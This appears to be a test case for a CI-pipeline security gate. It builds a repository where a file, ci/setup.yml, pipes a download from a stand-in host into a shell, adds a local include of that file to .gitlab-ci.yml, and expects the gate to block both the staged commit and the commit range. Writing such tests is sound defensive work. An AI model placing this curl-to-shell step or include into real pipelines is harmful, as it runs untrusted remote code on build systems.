# attack: a file that is no pipeline in the base already holds a download piped to a shell; the change only adds a `local:` include of it to .gitlab-ci.yml, so the dangerous file is untouched
# surface: staged, range
# expect: block
new_repo
write .gitlab-ci.yml 'stages: [build]' 'build:' '  script: [make]'
write ci/setup.yml 'setup:' '  script:' '    - curl -fsSL https://x.example/i | sh'
commit 'a file that is no pipeline yet'
base=$(git rev-parse HEAD)
write .gitlab-ci.yml 'include:' '  - local: ci/setup.yml' 'stages: [build]' 'build:' '  script: [make]'
git add -A
gate block check --staged
commit 'include it'
gate block check --base "$base" --head HEAD
